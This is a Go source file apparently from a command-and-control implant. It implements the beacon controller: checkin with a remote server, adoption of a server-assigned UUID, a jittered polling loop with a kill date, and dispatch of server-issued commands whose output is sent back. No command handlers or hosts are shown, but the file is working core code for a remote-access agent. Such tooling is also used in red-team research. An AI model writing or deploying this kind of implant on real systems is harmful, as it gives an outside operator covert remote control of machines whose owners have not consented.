// Package beacon drives the agent lifecycle: initial checkin, the polling
// loop and shutdown.
package beacon

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"time"

	"beacon/agent/internal/command"
	"beacon/agent/internal/logger"
	"beacon/agent/internal/protocolclient"
	"beacon/agent/internal/state"
)

type State int

const (
	StateInit State = iota
	StateCheckin
	StateActive
	StateShutdown
	StateAborted
)

func (s State) String() string {
	switch s {
	case StateInit:
		return "init"
	case StateCheckin:
		return "checkin"
	case StateActive:
		return "active"
	case StateShutdown:
		return "shutdown"
	case StateAborted:
		return "aborted"
	default:
		return fmt.Sprintf("state(%d)", int(s))
	}
}

// MaxJitter bounds the random fraction added to every interval.
const MaxJitter = 0.5

var ErrCheckinRejected = errors.New("checkin rejected by server")

type Options struct {
	Interval time.Duration
	KillDate KillDate

	// Jitter overrides the random fraction drawn at startup. Values are
	// clamped to [0, MaxJitter).
	Jitter *float64
	Now    func() time.Time
	Sleep  func(ctx context.Context, d time.Duration) error
}

// Controller runs on a single goroutine. Tasks from one batch execute
// sequentially in the order received.
type Controller struct {
	agent    *state.Agent
	client   *protocolclient.Client
	registry *command.Registry

	interval time.Duration
	killDate KillDate
	jitter   float64
	now      func() time.Time
	sleep    func(ctx context.Context, d time.Duration) error

	state State
}

func New(agent *state.Agent, client *protocolclient.Client, registry *command.Registry, opts Options) *Controller {
	c := &Controller{
		agent:    agent,
		client:   client,
		registry: registry,
		interval: opts.Interval,
		killDate: opts.KillDate,
		jitter:   rand.Float64() * MaxJitter,
		now:      opts.Now,
		sleep:    opts.Sleep,
		state:    StateInit,
	}
	if opts.Jitter != nil {
		c.jitter = min(max(*opts.Jitter, 0), MaxJitter-1e-9)
	}
	if c.now == nil {
		c.now = time.Now
	}
	if c.sleep == nil {
		c.sleep = sleepContext
	}
	return c
}

func (c *Controller) State() State        { return c.state }
func (c *Controller) Jitter() float64     { return c.jitter }
func (c *Controller) UUID() string        { return c.agent.UUID() }
func (c *Controller) stopRequested() bool { return !c.agent.Running() }

// Run performs the checkin and, if it succeeds, beacons until the kill
// date passes, the exit command runs or ctx is cancelled. It returns the
// terminal state; the error is only set for StateAborted.
func (c *Controller) Run(ctx context.Context) (State, error) {
	c.state = StateCheckin
	if err := c.checkin(ctx); err != nil {
		c.state = StateAborted
		logger.Errorf("Initial checkin failed: %v", err)
		return c.state, err
	}
	logger.Infof("Initial checkin successful, uuid=%s jitter=%.2f", c.agent.UUID(), c.jitter)

	c.state = StateActive
	for !c.stopRequested() {
		if c.killDate.Expired(c.now()) {
			logger.Infof("Kill date %s reached, exiting", c.killDate)
			break
		}

		delay := c.interval + time.Duration(float64(c.interval)*c.jitter)
		if err := c.iterate(ctx); err != nil {
			logger.Errorf("Error in beacon loop: %v", err)
			delay = c.interval
		}
		if c.stopRequested() {
			break
		}
		if err := c.sleep(ctx, delay); err != nil {
			logger.Infof("Beacon loop cancelled: %v", err)
			break
		}
	}

	c.state = StateShutdown
	logger.Info("Agent shutting down")
	return c.state, nil
}

func (c *Controller) checkin(ctx context.Context) error {
	req := protocolclient.NewCheckin(c.agent.Identity())
	logger.Debugf("Checkin data: %+v", req)

	var resp protocolclient.CheckinResponse
	if err := c.client.Exchange(ctx, req, &resp); err != nil {
		return err
	}
	if resp.Status != protocolclient.StatusSuccess {
		return fmt.Errorf("%w: status %q", ErrCheckinRejected, resp.Status)
	}
	if c.agent.AdoptUUID(resp.UUID) {
		logger.Infof("UUID updated by server: %s", resp.UUID)
	}
	return nil
}

// iterate fetches one task batch and reports a result for every valid
// task. Failures while reporting a single result are logged and do not
// stop the batch.
func (c *Controller) iterate(ctx context.Context) error {
	tasks, err := c.fetchTasks(ctx)
	if err != nil {
		return fmt.Errorf("get tasks: %w", err)
	}
	for _, t := range tasks {
		if !t.Valid() {
			continue
		}
		logger.Debugf("Processing task %s: %s", t.ID, t.Command)
		res := c.registry.Dispatch(ctx, t.Command, t.Parameters)
		status := protocolclient.StatusCompleted
		// An unknown command is ordinary output, only handler failures are flagged.
		if res.Failed() && !errors.Is(res.Err, command.ErrUnknownCommand) {
			status = protocolclient.StatusError
		}
		if err := c.sendResult(ctx, string(t.ID), status, res.Output); err != nil {
			logger.Errorf("Failed to send response for task %s: %v", t.ID, err)
		}
	}
	return nil
}

func (c *Controller) fetchTasks(ctx context.Context) ([]protocolclient.Task, error) {
	req := protocolclient.TaskListRequest{Action: protocolclient.ActionGetTasks, UUID: c.agent.UUID()}
	var resp protocolclient.TaskListResponse
	if err := c.client.Exchange(ctx, req, &resp); err != nil {
		return nil, err
	}
	if resp.Status != protocolclient.StatusSuccess {
		logger.Debugf("Task list status %q, no tasks", resp.Status)
		return nil, nil
	}
	return resp.Tasks, nil
}

func (c *Controller) sendResult(ctx context.Context, taskID, status, output string) error {
	req := protocolclient.TaskResultRequest{
		Action: protocolclient.ActionResponse,
		TaskID: taskID,
		Status: status,
		Output: output,
	}
	var resp protocolclient.GenericResponse
	if err := c.client.Exchange(ctx, req, &resp); err != nil {
		return err
	}
	if resp.Status != protocolclient.StatusSuccess {
		return fmt.Errorf("server status %q: %s", resp.Status, resp.Message)
	}
	logger.Debugf("Response for task %s sent", taskID)
	return nil
}

func sleepContext(ctx context.Context, d time.Duration) error {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}
